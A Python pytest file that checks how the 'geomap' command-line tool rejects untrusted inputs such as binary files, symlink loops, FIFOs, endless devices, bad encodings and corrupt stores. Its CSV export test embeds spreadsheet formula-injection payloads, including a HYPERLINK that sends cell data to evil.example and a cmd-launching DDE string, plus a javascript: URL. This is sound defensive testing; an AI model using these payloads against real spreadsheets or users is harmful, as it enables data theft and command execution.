"""Untrusted files given to the ``geomap`` command (issue 8).

Every bad file must give one line on stderr naming the file, no traceback, and
the exit code documented in README.md (3: an article cannot be read), quickly
and without reading a huge or endless input into memory.  Encodings geomap
promises to accept (Windows-1252 with a warning, UTF-16 with a BOM) must decode
to the same text as the UTF-8 original.
"""

from __future__ import annotations

import json
import os
import resource
import subprocess
import sys
import time
from pathlib import Path

import pytest

from geomap.articles import article_from_text, read_article
from geomap.cli import main
from geomap.errors import ArticleError, GeomapError

ROOT = Path(__file__).resolve().parent.parent
GEOMAP = [sys.executable, "-m", "geomap.cli"]
TEXT = "Published: 2025-10-14\n\nPakistan closed the Torkham crossing on Sunday; traders in Peshawar waited. Café “Khyber” – 5 km.\n"  # noqa: E501


def _run(
    args: list[str], *, timeout: float = 60, mem_limit: int | None = None
) -> tuple[int, str, str, float, int]:
    """Run the CLI in a child; return (exit code, stdout, stderr, seconds, peak RSS in kB).

    ``mem_limit`` (bytes) caps the child's address space so a runaway read dies
    with MemoryError instead of exhausting the machine.
    """

    def limit() -> None:  # runs in the child
        if mem_limit:
            resource.setrlimit(resource.RLIMIT_AS, (mem_limit, mem_limit))

    t0 = time.monotonic()
    proc = subprocess.Popen(
        GEOMAP + args, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, preexec_fn=limit
    )
    try:
        out, err = proc.communicate(timeout=timeout)
    except subprocess.TimeoutExpired:
        proc.kill()
        out, err = proc.communicate()
        return (
            -9,
            out,
            err + f"\n[killed after {timeout} s: the command hung]",
            time.monotonic() - t0,
            0,
        )
    # proc is reaped by communicate(); RUSAGE_CHILDREN's ru_maxrss is the largest child so far,
    # so compare against a baseline measured the same way (see test_huge_file...).
    rss = resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss
    return proc.returncode, out, err, time.monotonic() - t0, rss


def _assert_one_line_error(err: str, *, name: str, words: tuple[str, ...]) -> None:
    lines = [ln for ln in err.strip().splitlines() if not ln.startswith("geomap: WARNING")]
    assert len(lines) == 1, f"expected one error line, got:\n{err}"
    line = lines[0]
    assert line.startswith("geomap: error:"), line
    assert "Traceback" not in err
    assert name in line, f"the error should name the file: {line}"
    assert any(w in line for w in words), f"expected one of {words} in: {line}"


#: Bugs found by these tests and still open (SECURITY.md lists them).  strict=True: the
#: test turns red the day the bug is fixed, so the mark gets removed.


# ---------------------------------------------------------------- bad files: one line, exit 3


@pytest.mark.parametrize(
    ("content", "words"),
    [
        (b"", ("empty",)),
        (b" \n\t\r\n  \n", ("empty",)),
        (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x01\x00", ("binary",)),
        (bytes(range(256)) * 8, ("binary", "decode")),
        (b"\x7fELF\x02\x01\x01" + b"\x00" * 64, ("binary",)),
        (b"\x1b[31m\x07\x08" * 50 + b"Torkham", ("binary", "control")),
    ],
    ids=["empty", "whitespace-only", "png", "all-bytes", "elf", "terminal-escapes"],
)
def test_unreadable_content_is_one_line_error_with_exit_3(tmp_path, capsys, content, words):
    art = tmp_path / "bad article.txt"
    art.write_bytes(content)
    rc = main(["extract", str(art), "--json"])
    cap = capsys.readouterr()
    assert rc == 3
    assert cap.out == ""
    _assert_one_line_error(cap.err, name=str(art), words=words)


def test_directory_given_as_article_is_one_line_error(tmp_path, capsys):
    rc = main(["extract", str(tmp_path), "--json"])
    cap = capsys.readouterr()
    assert rc == 3
    _assert_one_line_error(cap.err, name=str(tmp_path), words=("directory",))


@pytest.mark.parametrize("kind", ["two-link loop", "self loop", "dangling"])
def test_symlink_loop_or_dangling_link_is_one_line_error(tmp_path, capsys, kind):
    a, b = tmp_path / "a.txt", tmp_path / "b.txt"
    if kind == "two-link loop":
        a.symlink_to(b)
        b.symlink_to(a)
    elif kind == "self loop":
        a.symlink_to(a)
    else:
        a.symlink_to(tmp_path / "gone.txt")
    rc = main(["extract", str(a), "--json"])
    cap = capsys.readouterr()
    assert rc == 3
    _assert_one_line_error(
        cap.err, name=str(a), words=("symbolic links", "no such file", "cannot be read")
    )


def test_unreadable_file_permission_denied_simulated(tmp_path, capsys, monkeypatch):
    # The tests run as root, and root ignores file modes (chmod 000 still reads), so the
    # PermissionError is simulated where the reader opens the file.
    art = tmp_path / "secret.txt"
    art.write_text(TEXT, encoding="utf-8")
    real = Path.read_bytes

    def denied(self: Path) -> bytes:
        if self == art or str(self) == str(art):
            raise PermissionError(13, "Permission denied", str(self))
        return real(self)

    def denied_open(self: Path, *args, **kwargs):
        if str(self) == str(art):
            raise PermissionError(13, "Permission denied", str(self))
        return real_open(self, *args, **kwargs)

    real_open = Path.open
    monkeypatch.setattr(Path, "read_bytes", denied)
    monkeypatch.setattr(Path, "open", denied_open)
    rc = main(["extract", str(art), "--json"])
    cap = capsys.readouterr()
    assert rc == 3
    _assert_one_line_error(cap.err, name=str(art), words=("permission denied",))


@pytest.mark.skipif(
    os.geteuid() == 0, reason="root ignores file modes; covered by the simulated test"
)
def test_unreadable_file_permission_denied_real(tmp_path, capsys):
    art = tmp_path / "secret.txt"
    art.write_text(TEXT, encoding="utf-8")
    art.chmod(0)
    rc = main(["extract", str(art), "--json"])
    cap = capsys.readouterr()
    assert rc == 3
    _assert_one_line_error(cap.err, name=str(art), words=("permission denied",))


def test_bad_file_among_good_ones_in_build_writes_nothing(tmp_path, capsys):
    good = tmp_path / "good.txt"
    good.write_text(TEXT, encoding="utf-8")
    bad = tmp_path / "bad.txt"
    bad.write_bytes(b"\x00\x01binary")
    out = tmp_path / "out"
    rc = main(["build", str(good), str(bad), "-o", str(out)])
    cap = capsys.readouterr()
    assert rc == 3
    _assert_one_line_error(cap.err, name=str(bad), words=("binary",))
    assert not out.exists() or not any(out.iterdir())


# ---------------------------------------------------------------- size limits, endless inputs


def test_huge_file_is_refused_fast_without_reading_it(tmp_path):
    # A 100 MB article, made sparse so the test is fast: if geomap read it, the
    # child's peak RSS would grow by >= 100 MB over the baseline.
    tiny = tmp_path / "tiny.txt"
    tiny.write_bytes(b"")
    _run(["extract", str(tiny), "--json"])
    baseline = resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss
    huge = tmp_path / "huge.txt"
    with huge.open("wb") as fh:
        fh.write(b"Published: 2025-10-14\n\nTorkham was closed on Sunday.\n" * 10)
        fh.truncate(100 * 1024 * 1024)
    rc, out, err, secs, rss = _run(["extract", str(huge), "--json"], timeout=60)
    assert rc == 3, err
    _assert_one_line_error(err, name=str(huge), words=("limit", "larger", "too large"))
    assert secs < 10, f"refusing a 100 MB file took {secs:.1f} s"
    assert rss - baseline < 50_000, (
        f"peak RSS grew by {(rss - baseline) / 1024:.0f} MB: the file was read"
    )


@pytest.mark.parametrize("device", ["/dev/zero", "/dev/urandom"])
def test_endless_device_is_refused_not_read_forever(device):
    # st_size of a character device is 0, so a size check on stat() alone lets it through
    # and read_bytes() never ends.  Capped at 800 MB of address space: a regression fails instead of
    # exhausting the machine.
    if not os.path.exists(device):
        pytest.skip(f"{device} not present")
    rc, out, err, secs, _ = _run(["extract", device, "--json"], timeout=30, mem_limit=800_000_000)
    assert rc == 3, f"exit {rc} after {secs:.1f} s: {err.strip()[-300:]}"
    _assert_one_line_error(
        err, name=device, words=("not a regular file", "limit", "larger", "binary")
    )
    assert secs < 10


@pytest.mark.parametrize("command", ["extract", "ingest"])
def test_named_pipe_is_refused_not_waited_on(tmp_path, command):
    # A FIFO dropped into a feed must not hang an unattended run.  (Inside a
    # folder, ingest's walk ignores it; given by name, it is opened and read.)
    fifo = tmp_path / "article.txt"
    os.mkfifo(fifo)
    args = (
        ["extract", str(fifo), "--json"]
        if command == "extract"
        else ["ingest", str(fifo), "--store", str(tmp_path / "s.gpkg"), "--no-progress"]
    )
    rc, out, err, secs, _ = _run(args, timeout=5)
    assert rc != -9, f"geomap {command} hung on a FIFO"
    if command == "extract":
        assert rc == 3
        _assert_one_line_error(err, name=str(fifo), words=("not a regular file",))
    else:
        assert rc in (0, 3) and "not a regular file" in out + err and str(fifo) in out + err


def test_max_bytes_is_enforced_by_the_library(tmp_path):
    art = tmp_path / "a.txt"
    art.write_text("Torkham was closed. " * 100, encoding="utf-8")
    with pytest.raises(ArticleError, match="limit"):
        read_article(art, max_bytes=1000)
    assert read_article(art, max_bytes=10_000).text.startswith("Torkham")


# ---------------------------------------------------------------- encodings


def test_windows_1252_decodes_with_a_warning(tmp_path):
    art = tmp_path / "cp1252.txt"
    art.write_bytes(TEXT.encode("cp1252"))
    a = read_article(art)
    assert a.text == read_article_text(TEXT)
    assert "Café “Khyber” – 5 km" in a.text
    assert any("1252" in w for w in a.warnings)


@pytest.mark.parametrize("codec", ["utf-16", "utf-16-le", "utf-16-be"])
def test_utf16_with_bom_decodes_to_the_same_text(tmp_path, codec):
    art = tmp_path / "u16.txt"
    data = TEXT.encode(codec)
    if codec == "utf-16-le":
        data = b"\xff\xfe" + data
    elif codec == "utf-16-be":
        data = b"\xfe\xff" + data
    art.write_bytes(data)
    a = read_article(art)
    assert a.text == read_article_text(TEXT)
    assert a.published.isoformat() == "2025-10-14"


def test_utf8_bom_and_crlf_give_the_same_article_id(tmp_path):
    plain, bom = tmp_path / "plain.txt", tmp_path / "bom.txt"
    plain.write_bytes(TEXT.encode("utf-8"))
    bom.write_bytes(b"\xef\xbb\xbf" + TEXT.replace("\n", "\r\n").encode("utf-8"))
    assert read_article(plain).id == read_article(bom).id


def test_truncated_utf16_is_an_article_error_not_a_crash(tmp_path, capsys):
    art = tmp_path / "odd.txt"
    art.write_bytes(b"\xff\xfe" + "Torkham".encode("utf-16-le") + b"\x00")  # odd byte count
    rc = main(["extract", str(art), "--json"])
    cap = capsys.readouterr()
    assert rc == 3
    _assert_one_line_error(cap.err, name=str(art), words=("UTF-16",))


def read_article_text(raw: str) -> str:
    """The normalised text geomap keeps for ``raw`` (header removed)."""
    return article_from_text(raw).text


# ---------------------------------------------------------------- text that is not what it seems


@pytest.mark.parametrize(
    "raw",
    ["Torkham \ud800 was closed.", "Kabul \udfff\ud83d said"],
    ids=["lone-high-surrogate", "lone-low-surrogates"],
)
def test_lone_surrogates_are_a_geomap_error_or_handled(raw):
    # JSON Lines can carry "\ud800" escapes, which json.loads turns into lone
    # surrogates; they cannot be encoded as UTF-8 (the article id hashes UTF-8).
    try:
        a = article_from_text(raw, published=None)
    except GeomapError:
        return
    a.text.encode("utf-8")  # whatever was kept must be valid text
    assert len(a.id) == 16


def test_header_lines_cannot_inject_a_huge_or_odd_title():
    raw = (
        "Title: "
        + "<b>x</b>" * 10
        + "\nURL: javascript:alert(1)\nPublished: 2025-10-14\n\nTorkham closed."
    )
    a = article_from_text(raw)
    assert a.text == "Torkham closed."
    assert a.published.isoformat() == "2025-10-14"
    # stored as given: escaping is the renderer's job (checked in test_security_html.py)
    assert a.title.startswith("<b>x</b>") and a.url == "javascript:alert(1)"


def test_extract_json_of_an_article_full_of_markup_is_valid_json(tmp_path, capsys):
    art = ROOT / "tests" / "data" / "hostile" / "04_broken_markup.txt"
    rc = main(["extract", str(art), "--json"])
    cap = capsys.readouterr()
    assert rc == 0, cap.err
    doc = json.loads(cap.out)
    text = read_article(art).text
    for p in doc["places"]:
        assert text[p["start"] : p["end"]] == p["mention"]


# ------------------------------------------------ ingest: skip with the reason; the store file


def _ingest(args: list[str], capsys) -> tuple[int, str, str]:
    rc = main(["ingest", *args, "--no-progress"])
    cap = capsys.readouterr()
    return rc, cap.out, cap.err


def _stored_ids(store: Path) -> set[str]:
    import sqlite3

    con = sqlite3.connect(store)
    try:
        return {r[0] for r in con.execute("SELECT id FROM articles")}
    finally:
        con.close()


def test_ingest_of_a_folder_skips_bad_files_with_reasons_and_keeps_the_rest(tmp_path, capsys):
    feed = tmp_path / "feed"
    (feed / "sub").mkdir(parents=True)
    good = feed / "good.txt"
    good.write_text(TEXT, encoding="utf-8")
    (feed / "sub" / "good2.txt").write_text(
        "Published: 2025-10-15\n\nTraders protested in Chaman on Monday.\n", encoding="utf-8"
    )
    (feed / "empty.txt").write_bytes(b"")
    (feed / "binary.txt").write_bytes(b"\x00\x01\x02\x03")
    (feed / "cp1252.txt").write_bytes(
        "Published: 2025-10-16\n\nCaf\u00e9 owners in Quetta protested.".encode("cp1252")
    )
    (feed / "loop1.txt").symlink_to(feed / "loop2.txt")
    (feed / "loop2.txt").symlink_to(feed / "loop1.txt")
    (feed / "self").symlink_to(feed)  # a directory loop
    (feed / "lines.jsonl").write_text(
        '{"text": 5}\nnot json\n{"text": "Chaman was closed on Friday.", "published": "2025-99-99"}\n'  # noqa: E501
        '{"text": "Torkham reopened on Monday.", "published": "2025-10-16", "title": "<b>t</b>"}\n',
        encoding="utf-8",
    )
    store = tmp_path / "s.gpkg"
    rc, out, err = _ingest([str(feed), "--store", str(store)], capsys)
    assert rc == 6, err  # some inputs skipped (listed), the articles stored
    assert "Traceback" not in err
    skipped = {
        ln.split(":")[0].split("skipped ", 1)[1] for ln in out.splitlines() if "skipped /" in ln
    }
    for name in ("empty.txt", "binary.txt", "loop1.txt", "loop2.txt"):
        assert str(feed / name) in skipped, f"{name} not listed as skipped:\n{out}"
    assert (
        sum(str(feed / "lines.jsonl") in s for s in skipped) == 1
    )  # one entry per line: path:line
    assert len([ln for ln in out.splitlines() if "lines.jsonl:" in ln]) == 3
    ids = _stored_ids(store)
    assert read_article(good).id in ids and len(ids) == 4  # good, good2, cp1252, one JSON line


def test_one_article_with_an_absurd_count_does_not_block_the_feed(tmp_path, capsys):
    feed = tmp_path / "feed"
    feed.mkdir()
    (feed / "a.txt").write_text(TEXT, encoding="utf-8")
    (feed / "b.txt").write_text(
        "Published: 2025-10-16\n\nClashes erupted near Torkham last week; "
        "99999999999999999999999999999999 people were killed.\n",
        encoding="utf-8",
    )
    store = tmp_path / "s.gpkg"
    rc, out, err = _ingest([str(feed), "--store", str(store)], capsys)
    assert rc == 0, err
    assert read_article(feed / "a.txt").id in _stored_ids(store)


def test_ingest_jsonl_with_a_lone_surrogate_escape_skips_that_line(tmp_path, capsys):
    feed = tmp_path / "feed.jsonl"
    feed.write_text(
        '{"text": "Torkham \\ud800 reopened on Monday.", "published": "2025-10-16"}\n'
        '{"text": "Chaman was closed on Friday.", "published": "2025-10-17"}\n',
        encoding="utf-8",
    )
    store = tmp_path / "s.gpkg"
    rc, out, err = _ingest([str(feed), "--store", str(store)], capsys)
    assert rc == (6 if f"skipped {feed}:1" in out else 0), err
    assert f"skipped {feed}:1" in out or len(_stored_ids(store)) == 2
    assert len(_stored_ids(store)) >= 1


@pytest.mark.parametrize(
    "content",
    [b"not a database at all\n" * 10, b"SQLite format 3\x00" + b"\xff" * 4000, None],
    ids=["text", "corrupt-header", "foreign-sqlite"],
)
def test_corrupt_or_foreign_store_is_a_clear_error_and_never_overwritten(tmp_path, capsys, content):
    store = tmp_path / "store.gpkg"
    if content is None:
        import sqlite3

        con = sqlite3.connect(store)
        con.execute("CREATE TABLE articles (x)")
        con.execute("INSERT INTO articles VALUES ('someone else''s data')")
        con.commit()
        con.close()
    else:
        store.write_bytes(content)
    before = store.read_bytes()
    art = tmp_path / "a.txt"
    art.write_text(TEXT, encoding="utf-8")
    for args in (
        ["ingest", str(art), "--store", str(store), "--no-progress"],
        ["map", "--store", str(store), "-o", str(tmp_path / "out")],
    ):
        rc = main(args)
        cap = capsys.readouterr()
        assert rc == 5, cap.err
        _assert_one_line_error(cap.err, name=str(store), words=("store", "database", "GeoPackage"))
        assert store.read_bytes() == before
    assert not (tmp_path / "out" / "map.html").exists()


def test_store_path_that_is_a_directory_is_a_clear_error(tmp_path, capsys):
    art = tmp_path / "a.txt"
    art.write_text(TEXT, encoding="utf-8")
    rc, out, err = _ingest([str(art), "--store", str(tmp_path)], capsys)
    assert rc == 5, err
    _assert_one_line_error(err, name=str(tmp_path), words=("directory", "store"))


# ---------------------------------------------------------------- no network by default


def test_build_and_ingest_make_no_network_connection(tmp_path, capsys, monkeypatch):
    import socket

    attempts: list[object] = []

    def refuse(*args, **kwargs):
        attempts.append(args)
        raise OSError("network disabled by the test")

    monkeypatch.setattr(socket.socket, "connect", refuse)
    monkeypatch.setattr(socket.socket, "connect_ex", refuse)
    monkeypatch.setattr(socket, "getaddrinfo", refuse)
    monkeypatch.setattr(socket, "create_connection", refuse)
    hostile = sorted((ROOT / "tests" / "data" / "hostile").glob("0[1-3]*.txt"))
    html = tmp_path / "page.html"
    html.write_text(
        "<html><head><script src='https://example.com/x.js'></script></head><body>"
        "<img src='https://example.com/pixel.gif'><p>Pakistan closed the Torkham crossing on Sunday "  # noqa: E501
        "after clashes near Landi Kotal, officials in Peshawar said.</p></body></html>",
        encoding="utf-8",
    )
    assert main(["build", *map(str, hostile), "-o", str(tmp_path / "out")]) == 0
    assert (
        main(
            [
                "ingest",
                str(html),
                *map(str, hostile),
                "--store",
                str(tmp_path / "s.gpkg"),
                "--no-progress",
            ]
        )
        == 0
    )
    capsys.readouterr()
    assert attempts == []


@pytest.mark.parametrize(
    "published", ["0001-01-01", "9999-12-31"]
)
def test_articles_dated_at_the_ends_of_the_calendar_do_not_block_the_feed(
    tmp_path, capsys, published
):
    feed = tmp_path / "feed"
    feed.mkdir()
    (feed / "a.txt").write_text(TEXT, encoding="utf-8")
    (feed / "b.txt").write_text(
        f"Published: {published}\n\nPakistan closed the Torkham crossing yesterday; it reopens "
        "tomorrow. Clashes near Chaman on Monday killed 3 people.\n",
        encoding="utf-8",
    )
    store = tmp_path / "s.gpkg"
    rc, out, err = _ingest([str(feed), "--store", str(store)], capsys)
    assert rc == 6, err  # b.txt is skipped (date outside the range), a.txt stored
    assert read_article(feed / "a.txt").id in _stored_ids(store)
    assert main(["map", "--store", str(store), "-o", str(tmp_path / "out"), "-q"]) == 0


def test_deeply_nested_json_line_is_skipped_not_fatal(tmp_path, capsys):
    feed = tmp_path / "deep.jsonl"
    feed.write_text(
        "[" * 200_000 + "]" * 200_000 + "\n"
        '{"text": "Torkham was closed on Sunday.", "published": "2025-10-16"}\n',
        encoding="utf-8",
    )
    store = tmp_path / "s.gpkg"
    rc, out, err = _ingest([str(feed), "--store", str(store)], capsys)
    assert rc == 6, err  # line 1 skipped, line 2 stored
    assert f"skipped {feed}:1" in out
    assert len(_stored_ids(store)) == 1


# ---------------------------------------------------------------- exports opened in spreadsheets



def test_csv_export_cells_cannot_start_a_spreadsheet_formula(tmp_path, capsys):
    import csv

    art = tmp_path / "a.txt"
    art.write_text(
        'Published: 2025-10-16\n\n=HYPERLINK("http://evil.example/?d="&A1,"Torkham") Pakistan closed the '  # noqa: E501
        "Torkham crossing on Sunday after clashes.\n"
        '@SUM(1+1)*cmd|"/C calc"!A0 Clashes near Chaman killed 3 people on Monday.\n',
        encoding="utf-8",
    )
    store = tmp_path / "s.gpkg"
    assert main(["ingest", str(art), "--store", str(store), "--no-progress", "-q"]) == 0
    out = tmp_path / "incidents.csv"
    assert main(["export", "--format", "csv", "--store", str(store), "-o", str(out), "-q"]) == 0
    capsys.readouterr()
    rows = list(csv.DictReader(out.open(encoding="utf-8", newline="")))
    assert rows, "no incidents exported"
    live = []
    for row in rows:
        for col, cell in row.items():
            try:
                float(cell)
                continue  # numbers (a negative longitude) are data
            except (TypeError, ValueError):
                pass
            if cell and cell[0] in "=+-@\t\r":
                live.append((col, cell[:40]))
    assert live == [], f"cells a spreadsheet would evaluate: {live}"
